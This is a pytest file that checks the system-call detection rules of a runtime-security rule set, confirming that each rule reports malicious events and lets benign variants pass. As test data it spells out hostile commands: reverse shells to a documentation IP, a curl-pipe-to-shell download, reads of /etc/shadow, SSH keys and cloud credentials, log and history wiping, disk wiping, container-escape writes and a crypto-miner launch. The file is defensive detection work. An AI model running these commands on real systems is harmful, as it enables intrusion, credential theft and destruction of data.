"""The shipped rules for system calls: what each reports, and what it lets pass."""

from dataclasses import dataclass, field
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
import yaml

from rulec import compile_ruleset

SHIPPED = Path(str(files("rulec.rules") / "syscall.yaml"))

# ----------------------------------------------------------------------------------------
# Events: what they have in common, and what makes each of them.
# ----------------------------------------------------------------------------------------

HOST = {
    "evt.time": 1_772_443_800_000_000_000,
    "evt.failed": False,
    "evt.res": "SUCCESS",
    "evt.num": 7,
    "proc.name": "worker",
    "proc.cmdline": "worker --serve",
    "proc.args": "--serve",
    "proc.pname": "systemd",
    "proc.aname[2]": "systemd",
    "proc.exepath": "/opt/shop/worker",
    "proc.tty": 0,
    "user.uid": 1000,
    "user.name": "ines",
    "user.loginuid": -1,
    "container.id": "host",
}
CONTAINER = {
    "container.id": "3ad7b26ded6d",
    "container.name": "orders",
    "container.image.repository": "registry.example.com/shop/orders",
    "proc.pname": "containerd-shim",
    "proc.aname[2]": "systemd",
}

Event = dict[str, Any]


def started(command: str, **more: Any) -> Event:
    """Return the start of a program."""
    name, _, arguments = command.partition(" ")
    return {
        "evt.type": "execve",
        "proc.name": name,
        "proc.args": arguments,
        "proc.cmdline": command,
        "proc.exepath": f"/usr/bin/{name}",
        **named(more),
    }


def opened(path: str, mode: str = "read", flags: str = "O_RDONLY", **more: Any) -> Event:
    """Return the opening of a file, to ``read`` or to ``write``."""
    directory, _, filename = path.rpartition("/")
    return {
        "evt.type": "openat",
        "evt.is_open_read": mode == "read",
        "evt.is_open_write": mode == "write",
        "evt.arg.flags": flags,
        "fd.name": path,
        "fd.directory": directory,
        "fd.filename": filename,
        "fd.typechar": "f",
        **named(more),
    }


def written(path: str, **more: Any) -> Event:
    return opened(path, "write", "O_TRUNC|O_CREAT|O_WRONLY", **more)


def removed(path: str, **more: Any) -> Event:
    return {"evt.type": "unlinkat", "fs.path.name": path, **named(more)}


def connected(address: str, port: int, program: str, **more: Any) -> Event:
    return {
        "evt.type": "connect",
        "fd.typechar": "4",
        "fd.name": f"192.0.2.7:40122->{address}:{port}",
        "fd.cip": "192.0.2.7",
        "fd.sip": address,
        "fd.sport": port,
        "fd.l4proto": "tcp",
        "proc.name": program,
        "proc.cmdline": program,
        **named(more),
    }


def called(name: str, **more: Any) -> Event:
    return {"evt.type": name, **named(more)}


def named(more: dict[str, Any]) -> Event:
    """Return the fields that arguments stand for: ``proc__name`` is ``proc.name``."""
    return {name.replace("__", "."): value for name, value in more.items()}


def inside(event: Event) -> Event:
    """Return the same in a container."""
    return {**CONTAINER, **event}


# ----------------------------------------------------------------------------------------
# Cases
# ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """What a rule reports, and changes of the first of these that it lets pass."""

    rule: str
    reported: tuple[Event, ...]
    passes: tuple[Event, ...] = field(default=())


def but(**changes: Any) -> Event:
    return named(changes)


HOST_AGAIN = {"container.id": "host"}

CASES = (
    Case(
        "Reverse Shell Command",
        (
            started("nc -e /bin/sh 203.0.113.9 4444"),
            started("ncat 203.0.113.9 4444 --exec /bin/bash"),
            started("socat TCP:203.0.113.9:443 EXEC:/bin/sh"),
            started("bash -c bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
        ),
        (
            but(proc__args="-z 203.0.113.9 4444"),
            but(evt__failed=True),
            but(proc__name="worker"),
        ),
    ),
    Case(
        "Shell Connected to Network",
        (
            called(
                "dup2", evt__rawres=0, fd__typechar="4", fd__sip="203.0.113.9", fd__cip="192.0.2.7"
            ),
            called(
                "dup3",
                evt__rawres=1,
                fd__typechar="6",
                fd__sip="2001:db8::9",
                fd__cip="2001:db8::1",
            ),
        ),
        (
            but(evt__rawres=3),
            but(fd__typechar="f"),
            but(fd__sip="127.0.0.1", fd__cip="127.0.0.1"),
            but(proc__name="xinetd"),
        ),
    ),
    Case(
        "Shell Started by Server Program",
        (
            started("sh -c id", proc__pname="nginx"),
            started("bash -c whoami", proc__pname="postgres"),
        ),
        (but(proc__pname="make"), but(proc__name="logger"), but(evt__type="clone")),
    ),
    Case(
        "Shell at Terminal in Container",
        (inside(started("bash", proc__tty=34816)),),
        (but(proc__tty=0), HOST_AGAIN, but(proc__name="python3")),
    ),
    Case(
        "Service User at Terminal",
        (started("bash -i", user__name="www-data", proc__tty=34817, proc__pname="python3"),),
        (
            but(user__name="ines"),
            but(proc__tty=0),
            but(proc__pname="sudo"),
            {"container.id": "3ad7b26ded6d"},
        ),
    ),
    Case(
        "Password File Read",
        (
            opened("/etc/shadow", proc__name="cat"),
            opened("/etc/sudoers.d/90-cloud", proc__name="python3"),
        ),
        (
            but(proc__name="sshd"),
            but(proc__pname="dpkg"),
            {"proc.aname[3]": "apt-get"},
            but(fd__name="/etc/passwd"),
            but(evt__failed=True, evt__res="EACCES"),
            but(evt__is_open_read=False),
        ),
    ),
    Case(
        "Private Key Read by Copying Tool",
        (
            opened("/home/ines/.ssh/id_ed25519", proc__name="cat"),
            opened("/root/.aws/credentials", proc__name="curl"),
            opened("/etc/kubernetes/pki/ca.key", proc__name="cp"),
        ),
        (
            but(fd__name="/home/ines/.ssh/id_ed25519.pub"),
            but(proc__name="ssh"),
        ),
    ),
    Case(
        "Service Account Token Read by Tool",
        (inside(opened("/var/run/secrets/kubernetes.io/serviceaccount/token", proc__name="cat")),),
        (
            but(proc__name="coredns"),
            HOST_AGAIN,
            but(fd__name="/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"),
        ),
    ),
    Case(
        "Search for Secrets",
        (
            started("grep -r BEGIN RSA PRIVATE KEY /"),
            started("find / -name id_rsa"),
        ),
        (but(proc__args="-r TODO /src"), but(proc__name="editor")),
    ),
    Case(
        "Program Directory Changed",
        (
            written("/usr/bin/sshd"),
            removed("/usr/sbin/auditd"),
            called("renameat2", fs__path__source="/tmp/x", fs__path__target="/usr/bin/ls"),
        ),
        (
            but(fd__directory="/usr/share/doc", fd__name="/usr/share/doc/sshd"),
            but(proc__name="dpkg"),
            {"proc.aname[4]": "yum"},
            but(evt__is_open_write=False),
        ),
    ),
    Case(
        "Library Preload Configured",
        (written("/etc/ld.so.preload"), {**called("creat"), "fd.name": "/etc/ld.so.preload"}),
        (but(fd__name="/etc/ld.so.conf"), but(evt__failed=True)),
    ),
    Case(
        "Scheduled Job Written",
        (written("/etc/cron.d/backup"), written("/var/spool/cron/crontabs/ines")),
        (but(proc__name="crontab"), but(fd__name="/srv/cron.d/backup"), but(proc__pname="dpkg")),
    ),
    Case(
        "Authorized Keys Changed",
        (written("/home/ines/.ssh/authorized_keys"),),
        (but(fd__name="/home/ines/.ssh/known_hosts"), but(proc__name="ssh-copy-id")),
    ),
    Case(
        "Shell Startup File Changed",
        (written("/home/ines/.bashrc"), written("/etc/profile.d/x.sh")),
        (
            but(fd__filename=".vimrc", fd__name="/home/ines/.vimrc"),
            but(proc__name="useradd"),
            but(evt__is_open_write=False),
        ),
    ),
    Case(
        "Service Definition Written",
        (written("/etc/systemd/system/x.service"),),
        (
            but(proc__name="systemctl"),
            but(fd__name="/etc/systemd/resolved.conf"),
            but(proc__pname="rpm"),
        ),
    ),
    Case(
        "System Settings Changed",
        (written("/etc/hosts"),),
        (
            but(proc__name="vi"),
            but(fd__name="/srv/etc/hosts"),
            {"container.id": "3ad7b26ded6d"},
            {"proc.aname[3]": "puppet"},
        ),
    ),
    Case(
        "Shell History Removed",
        (
            written("/root/.bash_history"),
            removed("/home/ines/.zsh_history"),
            called("symlinkat", evt__arg__linkpath="/root/.bash_history"),
            started("rm -f /root/.bash_history"),
            started("bash -c history -c"),
        ),
        (
            but(proc__name="bash"),
            but(evt__arg__flags="O_APPEND|O_CREAT|O_WRONLY"),
            but(fd__name="/root/.bash_profile"),
        ),
    ),
    Case(
        "System Log Cleared",
        (
            written("/var/log/auth.log"),
            removed("/var/log/wtmp"),
            started("truncate -s 0 /var/log/syslog"),
            started("journalctl --rotate --vacuum-time=1s"),
        ),
        (
            but(proc__name="logrotate"),
            but(fd__name="/var/log/pods/shop/orders/0.log"),
            but(evt__arg__flags="O_APPEND|O_WRONLY"),
            {"proc.aname[2]": "logrotate"},
        ),
    ),
    Case(
        "Disk Wiped",
        (started("shred -n 1 /dev/sda"), started("dd if=/dev/zero of=/dev/nvme0n1 bs=1M")),
        (but(proc__args="-u notes.txt"), but(proc__name="lsblk")),
    ),
    Case(
        "Program Run from Memory",
        (
            started("kworker", proc__is_exe_from_memfd=True),
            started("x", proc__exepath="memfd:x"),
        ),
        (but(proc__is_exe_from_memfd=False), but(proc__pname="runc"), but(evt__failed=True)),
    ),
    Case(
        "Kernel Module Loaded",
        (
            called("finit_module", proc__name="loader"),
            inside(called("init_module", proc__name="insmod")),
        ),
        (but(proc__name="modprobe"), but(evt__failed=True, evt__res="EPERM")),
    ),
    Case(
        "Other Process Traced",
        (called("ptrace", evt__arg__request="PTRACE_ATTACH"),),
        (
            but(evt__arg__request="PTRACE_PEEKTEXT"),
            but(proc__name="gdb"),
            {"proc.aname[2]": "strace"},
            but(evt__failed=True),
        ),
    ),
    Case(
        "Root Rights Taken",
        (called("setuid", evt__arg__uid="root", user__loginuid=1000, user__uid=0),),
        (
            but(user__loginuid=-1),
            but(evt__arg__uid="ines"),
            but(proc__name="sudo"),
            {"proc.aname[3]": "su"},
        ),
    ),
    Case(
        "Setuid Bit Set",
        (called("fchmodat", evt__arg__mode="S_ISUID|S_IRUSR|S_IXUSR"),),
        (but(evt__arg__mode="S_IRUSR|S_IXUSR"), but(proc__name="dpkg"), but(evt__failed=True)),
    ),
    Case(
        "BPF Program Loaded",
        (called("bpf", evt__arg__cmd="BPF_PROG_LOAD"),),
        (but(evt__arg__cmd="BPF_MAP_CREATE"), but(proc__name="cilium-agent")),
    ),
    Case(
        "Page Faults Handled by User Program",
        (called("userfaultfd"),),
        (but(user__uid=0), but(proc__name="firecracker"), but(evt__failed=True)),
    ),
    Case(
        "Kernel Hook Written from Container",
        (
            inside(written("/sys/fs/cgroup/rdma/release_agent")),
            inside(written("/proc/sys/kernel/core_pattern")),
        ),
        (
            HOST_AGAIN,
            but(fd__filename="notify_on_release", fd__name="/sys/fs/cgroup/rdma/notify_on_release"),
        ),
    ),
    Case(
        "Container Runtime Used from Container",
        (inside(called("connect", fd__typechar="u", fd__name="a->b /var/run/docker.sock")),),
        (HOST_AGAIN, but(fd__name="a->b /run/dbus/system_bus_socket"), but(fd__typechar="4")),
    ),
    Case(
        "Namespace Entered from Container",
        (
            inside(called("setns")),
            inside(started("nsenter --target 1 --mount sh")),
        ),
        (HOST_AGAIN, but(evt__failed=True, evt__res="EPERM"), but(proc__name="runc")),
    ),
    Case(
        "User Namespace Made in Container",
        (inside(called("unshare", evt__arg__flags="CLONE_NEWNS|CLONE_NEWUSER")),),
        (
            but(evt__arg__flags="CLONE_NEWNS"),
            but(user__uid=0),
            HOST_AGAIN,
            but(proc__name="chrome"),
        ),
    ),
    Case(
        "Disk Mounted in Container",
        (
            inside(called("mount", evt__arg__dev="/dev/sda1", evt__arg__type="ext4")),
            inside(called("mount", evt__arg__dev="cgroup", evt__arg__type="cgroup")),
            inside(started("debugfs /dev/sda1")),
            inside(started("mount /dev/vda1 /mnt")),
        ),
        (HOST_AGAIN, but(evt__arg__dev="tmpfs", evt__arg__type="tmpfs"), but(evt__failed=True)),
    ),
    Case(
        "Cryptocurrency Miner Started",
        (started("xmrig"), started("worker -o stratum+tcp://pool.example:3333")),
        (but(proc__name="worker", proc__cmdline="worker"), but(evt__failed=True)),
    ),
    Case(
        "Connection to Mining Port",
        (connected("203.0.113.9", 3333, "worker"),),
        (but(fd__sport=443), but(fd__sip="10.1.2.3"), but(evt__type="accept")),
    ),
    Case(
        "Cloud Metadata Asked from Container",
        (inside(connected("169.254.169.254", 80, "curl")),),
        (HOST_AGAIN, but(fd__sip="203.0.113.9"), but(proc__name="orders")),
    ),
    Case(
        "Connection by Unexpected Program",
        (
            connected("203.0.113.9", 443, "tar"),
            connected("203.0.113.9", 443, "bash", evt__failed=True, evt__res="EINPROGRESS"),
        ),
        (
            but(proc__name="curl"),
            but(fd__sip="127.0.0.1"),
            but(fd__sport=53),
            but(evt__failed=True, evt__res="ECONNREFUSED"),
        ),
    ),
    Case(
        "Packet Socket Opened in Container",
        (inside(called("socket", evt__arg__domain="AF_PACKET")),),
        (HOST_AGAIN, but(evt__arg__domain="AF_INET"), but(proc__name="tcpdump")),
    ),
    Case(
        "Download Run by Shell",
        (started("sh -c curl -s https://203.0.113.9/i.sh | sh"),),
        (
            but(proc__cmdline="sh -c curl -s https://203.0.113.9/i.sh -o i.sh"),
            but(proc__name="make"),
            {"proc.aname[3]": "ansible"},
        ),
    ),
    Case(
        "Added Program Run in Container",
        (inside(started("tool", proc__is_exe_upper_layer=True)),),
        (but(proc__is_exe_upper_layer=False), HOST_AGAIN),
    ),
    Case(
        "Package Installed in Container",
        (inside(started("apt-get install -y nmap")), inside(started("apk add curl"))),
        (but(proc__args="list"), HOST_AGAIN, but(proc__pname="apt-get")),
    ),
)

# What happens all day, and is no alert.
QUIET = (
    started("ls -l /etc"),
    started("bash", proc__tty=34816),
    started("python3 manage.py migrate"),
    inside(started("sh -c /start.sh")),
    inside(started("orders --port 8080")),
    opened("/etc/passwd", proc__name="ls"),
    opened("/etc/shadow", proc__name="unix_chkpwd"),
    opened("/etc/ssl/certs/ca-certificates.crt"),
    written("/var/log/shop/worker.log", evt__arg__flags="O_APPEND|O_CREAT|O_WRONLY"),
    written("/tmp/upload-7"),
    removed("/tmp/upload-7"),
    connected("203.0.113.9", 443, "curl"),
    connected("10.0.0.10", 5432, "worker"),
    called("ptrace", evt__arg__request="PTRACE_TRACEME"),
    called("setuid", evt__arg__uid="nobody", user__loginuid=1000),
    called("mount", evt__arg__dev="/dev/sdb1", evt__arg__type="ext4"),
    called("socket", evt__arg__domain="AF_INET"),
    called("futex"),
)

ALL = compile_ruleset(SHIPPED, rule_matching="all", rules=[{"enable": {"rule": "*"}}])
SHIPPED_AS_IS = compile_ruleset(SHIPPED)


def alerts(event: Event) -> list[str]:
    return [alert.rule for alert in ALL.match({**HOST, **event}, source="syscall")]


def test_the_rules_compile_without_a_warning() -> None:
    assert not SHIPPED_AS_IS.warnings


def test_every_rule_has_its_cases() -> None:
    assert [case.rule for case in CASES] == [rule.name for rule in ALL.rules]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.rule)
def test_what_a_rule_reports(case: Case) -> None:
    for event in case.reported:
        assert case.rule in alerts(event), event


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.rule)
def test_what_a_rule_lets_pass(case: Case) -> None:
    assert case.passes
    for change in case.passes:
        assert case.rule not in alerts({**case.reported[0], **change}), change


@pytest.mark.parametrize("event", QUIET, ids=lambda event: event["evt.type"])
def test_what_happens_all_day_is_no_alert(event: Event) -> None:
    assert alerts(event) == []


def test_rules_are_tagged_with_techniques() -> None:
    for rule in ALL.rules:
        assert any(tag.startswith("mitre_") for tag in rule.tags), rule.name
        assert any(tag[0] == "T" and tag[1:5].isdigit() for tag in rule.tags), rule.name


def test_every_exception_can_be_replaced(tmp_path: Path) -> None:
    """A macro that lets something pass silences the rules that it is about."""
    items = yaml.safe_load(SHIPPED.read_text("utf-8"))
    expected = [item["macro"] for item in items if item.get("macro", "").startswith("expected_")]
    overlay = tmp_path / "overlay.yaml"
    overlay.write_text(
        "".join(
            f"- macro: {name}\n  condition: evt.num >= 0\n  override: {{condition: replace}}\n"
            for name in expected
        ),
        "utf-8",
    )
    tuned = compile_ruleset([SHIPPED, overlay], rule_matching="all")
    heard = {
        alert.rule
        for case in CASES
        for event in case.reported
        for alert in tuned.match({**HOST, **event}, source="syscall")
    }
    without_exception = {
        "Search for Secrets",
        "Shell History Removed",
        "Disk Wiped",
        "Cryptocurrency Miner Started",
    }
    assert heard == without_exception
